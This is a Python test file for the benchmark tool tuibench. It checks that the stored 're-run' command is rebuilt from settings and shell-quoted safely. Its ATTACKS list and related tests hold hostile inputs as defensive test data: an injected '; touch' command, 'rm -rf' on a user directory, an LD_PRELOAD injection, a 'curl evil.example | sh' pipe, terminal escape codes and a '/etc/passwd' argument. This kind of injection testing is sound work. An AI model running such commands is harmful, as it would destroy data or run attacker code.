"""The command that repeats a result: made from its settings, valid in any directory, and inert on a terminal."""

from __future__ import annotations

import json
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.core.settings.test_repeat import models, requests, spec_of
from tests.present import build
from tests.present.test_listing import row
from tuibench.cli.arguments import parse
from tuibench.core.ids import short_id
from tuibench.core.settings.command import command_words
from tuibench.core.settings.request import BenchmarkRequest
from tuibench.core.spec import LOSS, ModelSource, ProfileSpec
from tuibench.core.stored import Metadata, StoredBenchmark
from tuibench.model.imports.task import read_result
from tuibench.present import json_export, markdown_export
from tuibench.present.command import command_of, quote, token_of, typed
from tuibench.present.summary import summary
from tuibench.tui.screens.detail.facts import log_facts

__all__ = ["models"]

RUN = "01J0000000000000000000K3F9"

HOSTILE = "ev\x1b[31mil\n[red]x\u202e'\\.onnx"
ATTACKS = (
    "tuibench --version; touch /tmp/INJ # don't",
    "rm -rf /home/victim/data",
    "LD_PRELOAD=x.so tuibench benchmark m.onnx",
    "bash -c 'curl evil.example | sh'",
    "tuibench benchmark model.onnx\nINJ\x1b[2J",
    "INJ" * 30_000,
)


def line_of(*models: ModelSource, profile: ProfileSpec | None = None) -> str:
    return typed(build.spec(models=models, profile=profile), RUN)


@pytest.mark.parametrize("again", ATTACKS)
def test_command_of_an_import_is_made_from_its_settings(tmp_path: Path, again: str) -> None:
    document = json.loads(json_export.dumps(build.default_run()))
    honest = document["tuibench"]["again"]
    document["tuibench"]["again"] = again
    (tmp_path / "x.json").write_text(json.dumps(document))
    result = read_result(str(tmp_path / "x.json"))
    assert honest.startswith("tuibench benchmark dir/model.onnx -e onnxruntime -s async,sync -ncores 2 ")
    assert json.loads(json_export.dumps(result))["tuibench"]["again"] == honest
    (line,) = [line for line in summary(result).splitlines() if line.startswith("Again: ")]
    assert line == f"Again: {honest.replace('dir/', '/abs/dir/')}"
    assert markdown_export.dumps(result).endswith(f"Again:\n\n    {line.removeprefix('Again: ')}\n")
    facts = log_facts(StoredBenchmark(row(), Metadata(), result), 0.0)
    assert line.removeprefix("Again: ") in "\n".join(fact.text for fact in facts)


def test_result_of_another_tool_has_no_command() -> None:
    run = build.run(build.ok_cell(), foreign="deepsparse.benchmark 1.8.0")
    assert command_of(run) == "" and "Again:" not in summary(run) + markdown_export.dumps(run)
    assert json.loads(json_export.dumps(run))["tuibench"]["again"] == ""


def test_names_of_a_megabyte_are_repeated_by_the_id() -> None:
    run = build.run(build.ok_cell(), spec=build.spec(dims=(("n" * 1_000_000, (1,)),)))
    assert command_of(run) == f"tuibench rerun {short_id(run.id)}"
    assert len(summary(run)) < 10_000


@settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(requests())
def test_line_typed_in_any_directory_reads_back_to_an_equal_spec(request: BenchmarkRequest) -> None:
    spec = spec_of(request)
    absolute = replace(spec, models=tuple(ModelSource(source.path, source.path) for source in spec.models))
    program, *argv = command_words(spec, [token_of(source) for source in spec.models])
    assert program == "tuibench" and spec_of(parse(argv)) == absolute


@pytest.mark.parametrize("asked", ["m.onnx", "./m.onnx", "../far/m.onnx", "link.onnx", "-b"])
def test_model_is_named_by_its_path(asked: str) -> None:
    model = ModelSource(asked, "/srv/my models/m.onnx")
    assert line_of(model).startswith("tuibench benchmark '/srv/my models/m.onnx' -e ")
    assert line_of(model, profile=ProfileSpec(LOSS)).startswith("tuibench profile '/srv/my models/m.onnx' --loss ")


@pytest.mark.parametrize("asked", ["sample", "sample:tiny", "hf:a/b", "https://models.example/m.onnx"])
def test_names_and_urls_are_kept(asked: str) -> None:
    assert line_of(ModelSource(asked, "/cache/x.onnx")).startswith(f"tuibench benchmark {asked} -e ")


def test_imported_model_has_no_known_path() -> None:
    assert line_of(ModelSource("m.onnx", "m.onnx")).startswith("tuibench benchmark m.onnx -e ")
    assert line_of(ModelSource("-x=/etc/passwd", "-x=/etc/passwd")).endswith(" -- -x=/etc/passwd")


def test_control_characters_are_written_as_shell_escapes() -> None:
    said = quote(HOSTILE)
    assert said.isprintable() and said == r"$'ev\e[31mil\n[red]x\u202e\'\\.onnx'"


@pytest.mark.skipif(shutil.which("bash") is None, reason="asks bash what it reads")
@settings(max_examples=40, deadline=None)
@given(st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), min_size=1, max_size=20))
def test_shell_reads_every_word_unchanged(word: str) -> None:
    command = ["bash", "-c", f"printf %s {quote(word)}"]
    found = subprocess.run(command, capture_output=True, check=True, env={"LC_ALL": "C.UTF-8"})
    assert found.stdout.decode() == word


def test_token_of_an_exported_file_is_its_name() -> None:
    assert token_of(ModelSource("m.onnx", "m.onnx")) == "m.onnx"


def test_result_with_a_setting_of_a_newer_version_is_shown_and_exported() -> None:
    run = build.run()
    newer = replace(run, id=RUN, spec=replace(run.spec, options={"warp": 3}))
    assert command_of(newer) == f"tuibench rerun {short_id(RUN)}"
    assert f"tuibench rerun {short_id(RUN)}" in summary(newer)
    own = json.loads(json_export.dumps(newer))["tuibench"]
    assert own["again"] == "" and "warp" in own["reasons"]["tuibench.again"]
